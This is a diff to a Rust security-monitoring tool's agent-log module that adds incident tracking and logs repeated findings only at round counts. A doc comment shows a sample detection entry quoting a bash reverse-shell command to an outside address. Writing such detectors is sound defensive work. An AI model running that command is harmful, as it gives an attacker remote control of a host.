@@ -10,6 +10,7 @@ use jiff::Timestamp;
 
 use crate::config::log_name;
 use crate::finding::{Finding, printable};
+use crate::incident::{Change, News, Status};
 
 #[derive(Debug)]
 pub(super) struct AgentLogs {
@@ -31,7 +32,19 @@ impl AgentLogs {
         Ok(logs)
     }
 
-    pub(super) fn finding(&mut self, finding: &Finding) {
+    /// What is news stands here in full; of what repeats itself only a count,
+    /// at 5, 10, 20, 50, 100 and so on.
+    pub(super) fn finding(&mut self, finding: &Finding, change: &Change, own_count: u64) {
+        if change.loud {
+            let text = block(finding) + &standing(change);
+            self.write(&finding.agent, &text);
+        } else if is_round(own_count) && change.incident.status != Status::Closed {
+            self.write(&finding.agent, &again(finding, change, own_count));
+        }
+    }
+
+    /// Recorded before a crash, and maybe not shown then.
+    pub(super) fn late(&mut self, finding: &Finding) {
         self.write(&finding.agent, &block(finding));
     }
 
@@ -44,7 +57,7 @@ impl AgentLogs {
         self.write(agent, &line);
     }
 
-    /// `findings.jsonl` is the record; a log that can't be written is said on
+    /// The store is the record; a log that can't be written is said on
     /// the server's own output and costs no finding.
     fn write(&mut self, agent: &str, text: &str) {
         let written = self
@@ -73,6 +86,7 @@ impl AgentLogs {
 ///     > bash -i >& /dev/tcp/203.0.113.45/4444 0>&1
 ///     A shell was connected to an outside address.
 ///     do: Isolate the host and keep its memory.
+///     incident 019ab3…
 /// ```
 fn block(finding: &Finding) -> String {
     let mut text = String::new();
@@ -106,6 +120,48 @@ fn block(finding: &Finding) -> String {
         let _ = writeln!(text, "    do: {}", printable(&finding.recommended_action));
     }
     text
+}
+
+/// Why it stands here, and how often it was seen.
+fn standing(change: &Change) -> String {
+    let incident = &change.incident;
+    let why = match change.change {
+        News::Opened => return format!("    incident {}\n", incident.id),
+        News::Reopened => "was closed and is back",
+        News::Returned => "is back after a quiet time",
+        News::SeverityRose => "is worse than it was",
+        News::NewAgent => "was seen by others before",
+        News::NewEvidence => "has new evidence",
+        News::Status | News::Repeated => "goes on",
+    };
+    format!(
+        "    incident {} {why}: {} findings by {} since {}\n",
+        incident.id,
+        incident.count,
+        incident.agents.join(", "),
+        second(incident.first_seen),
+    )
+}
+
+fn again(finding: &Finding, change: &Change, own_count: u64) -> String {
+    let incident = &change.incident;
+    format!(
+        "{}  again     {}  ({own_count} times, {} by the panel since {}; incident {})\n",
+        second(finding.observed_at),
+        printable(&incident.title),
+        incident.count,
+        second(incident.first_seen),
+        incident.id,
+    )
+}
+
+/// 5, 10, 20, 50, 100, ...
+fn is_round(count: u64) -> bool {
+    let mut head = count;
+    while head >= 10 && head.is_multiple_of(10) {
+        head /= 10;
+    }
+    count >= 5 && matches!(head, 1 | 2 | 5)
 }
 
 /// RFC 3339 in whole seconds, UTC.
